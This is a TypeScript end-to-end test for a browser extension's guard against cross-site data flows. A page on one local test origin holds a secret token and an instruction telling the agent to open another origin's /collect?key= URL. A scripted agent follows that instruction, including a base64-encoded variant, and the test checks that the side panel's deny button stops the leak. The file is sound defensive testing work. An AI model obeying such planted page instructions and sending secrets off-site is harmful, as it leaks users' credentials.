/**
 * The attack the data-flow guard is for, in real Chromium with the real extension: a page on site A
 * (a loopback port) holds a secret token, an e-mail address and a paragraph, and tells the agent to
 * send the token to site B (another port: another origin). A scripted agent follows the instruction.
 * The guard puts each flow to the user in the side panel: deny stops it (B receives nothing), allow
 * once lets one through; the same origin never asks, nor a value the agent got from its user.
 * Without the guard the first navigation would reach B with the token at once.
 */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { rawTextOf, textOf } from '../helpers/mcpClient'
import { BROWSER_START_TIMEOUT_MS } from '../helpers/timing'
import {
  EMAIL,
  PARAGRAPH,
  startFlowBridge,
  TOKEN,
  type FlowBridge,
  type FlowSites,
} from './support/flowSites'

describe('a prompt-injected agent carrying a secret from one site to another', () => {
  let flow: FlowBridge
  let sites: FlowSites
  let panel: Page
  let tabId: number

  beforeAll(async () => {
    flow = await startFlowBridge({ tools: { browser_type: 'auto' } })
    ;({ sites, panel } = flow)
  }, BROWSER_START_TIMEOUT_MS)
  afterAll(() => flow?.close())

  const call = (name: string, args: Record<string, unknown>) => flow.call(name, args)
  const flowCard = () => flow.flowCard()

  it('reads the page on A: its result is labelled with A', async () => {
    const opened = await call('browser_open_tab', { url: `${sites.a}/inbox` })
    tabId = (JSON.parse(textOf(opened)) as { tabId: number }).tabId
    const snapshot = await call('browser_snapshot', { tabId })
    expect(snapshot._meta).toEqual({ 'bridge/origins': [sites.a] })
    expect(rawTextOf(snapshot)).toContain(TOKEN)
  })

  it('the agent follows the page and sends the key to B: the side panel asks, deny stops it and B gets nothing', async () => {
    // The scripted agent does what the page says: it reads the instruction and fills in the key.
    const { text } = JSON.parse(textOf(await call('browser_get_text', { tabId }))) as { text: string }
    const instructed = /open (http:\/\/\S+\/collect\?key=)THE_API_KEY_ABOVE/.exec(text)?.[1]
    expect(instructed).toBe(`${sites.b}/collect?key=`)
    const key = /API key: (\S+)/.exec(text)?.[1]
    const pending = call('browser_navigate', { tabId, url: `${instructed}${key}` })
    const card = await flowCard()
    expect(await card.getByTestId('approval-flow-value').textContent()).toBe('sk_l*** (32 characters)')
    expect(await card.getByTestId('approval-flow-from').textContent()).toBe(sites.a)
    expect(await card.getByTestId('approval-flow-to').textContent()).toBe(sites.b)
    // The summary is masked; the card still shows the call's own arguments in full, as every approval does.
    expect(await card.getByTestId('approval-flow').textContent()).not.toContain(TOKEN)
    await card.getByTestId('deny').click()
    expect(rawTextOf(await pending)).toMatch(/^\[approval_denied\]/)
    expect(sites.received).toEqual([])
  })

  it('allow once lets that one call through, and only that one', async () => {
    const url = `${sites.b}/collect?key=${Buffer.from(TOKEN).toString('base64')}`
    const once = call('browser_navigate', { tabId, url })
    await (await flowCard()).getByTestId('approve-once').click()
    expect((await once).isError).toBeFalsy()
    expect(sites.received.map((r) => r.url).filter((u) => u.startsWith('/collect'))).toEqual([
      `/collect?key=${Buffer.from(TOKEN).toString('base64')}`,
    ])

    // The tab is on B now: typing the address read on A into B's page asks again.
    const typed = call('browser_type', { tabId, selector: '#msg', text: `contact ${EMAIL}` })
    const card = await flowCard()
    expect(await card.getByTestId('approval-flow-value').textContent()).toBe('j***@corp.example')
    expect(await card.getByTestId('approval-flow-to').textContent()).toBe(sites.b)
    await card.getByTestId('deny').click()
    expect(rawTextOf(await typed)).toMatch(/^\[approval_denied\]/)
  })

  it('the paragraph in a URL fragment asks too', async () => {
    const pending = call('browser_navigate', { tabId, url: `${sites.b}/#${encodeURIComponent(PARAGRAPH)}` })
    const card = await flowCard()
    expect(await card.getByTestId('approval-flow-item').first().getAttribute('data-kind')).toBe('text')
    await card.getByTestId('deny').click()
    expect((await pending).isError).toBe(true)
  })

  it('never asks for the same origin, nor for a value the agent got from its user', async () => {
    const home = await call('browser_navigate', { tabId, url: `${sites.a}/inbox?key=${TOKEN}` })
    expect(home.isError).toBeFalsy()
    const own = await call('browser_navigate', {
      tabId,
      url: `${sites.b}/search?q=tok_Zz8Yy7Xx6Ww5Vv4Uu3Tt2`,
    })
    expect(own.isError).toBeFalsy()
    expect(await panel.getByTestId('approval').count()).toBe(0)
  })
})
